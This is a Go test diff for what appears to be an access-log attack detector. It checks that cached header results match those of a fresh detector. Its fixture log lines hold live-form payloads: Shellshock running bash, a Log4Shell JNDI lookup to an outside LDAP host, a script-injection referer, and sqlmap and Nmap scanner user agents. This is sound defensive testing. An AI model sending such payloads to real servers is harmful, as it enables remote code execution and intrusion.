@@ -227,3 +227,31 @@ func FuzzProse(f *testing.F) {
 		}
 	})
 }
+
+// TestHeaderCacheSameResult: the user-agent and referer caches remember
+// what the patterns found, so a value seen again gives the same matches,
+// fragments and score as on a fresh detector.
+func TestHeaderCacheSameResult(t *testing.T) {
+	rs := builtin(t)
+	lines := []string{
+		`192.0.2.1 - - [03/Dec/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "sqlmap/1.8.3#stable (https://sqlmap.org)"`,
+		`192.0.2.2 - - [03/Dec/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "https://example.com/?q=<script>alert(1)</script>" "Mozilla/5.0 (X11; Linux x86_64)"`,
+		`192.0.2.3 - - [03/Dec/2026:10:00:00 +0000] "GET /x?id=1 HTTP/1.1" 200 1 "-" "() { :; }; /bin/bash -c 'id'"`,
+		`192.0.2.4 - - [03/Dec/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://198.51.100.7/a}"`,
+		`192.0.2.5 - - [03/Dec/2026:10:00:00 +0000] "GET /search?q=script+font HTTP/1.1" 200 1 "-" "Mozilla/5.0 (compatible; Nmap Scripting Engine)"`,
+	}
+	shared := rs.NewDetector(accesslog.Auto)
+	shared.exhaustive = true
+	var got, want Result
+	for round := 0; round < 3; round++ {
+		for _, l := range lines {
+			shared.Scan([]byte(l), &got)
+			fresh := rs.NewDetector(accesslog.Auto)
+			fresh.exhaustive = true
+			fresh.Scan([]byte(l), &want)
+			if g, w := matchIDs(&got), matchIDs(&want); g != w || got.Score != want.Score {
+				t.Errorf("round %d, %s: cached %s score %d, fresh %s score %d", round, l, g, got.Score, w, want.Score)
+			}
+		}
+	}
+}
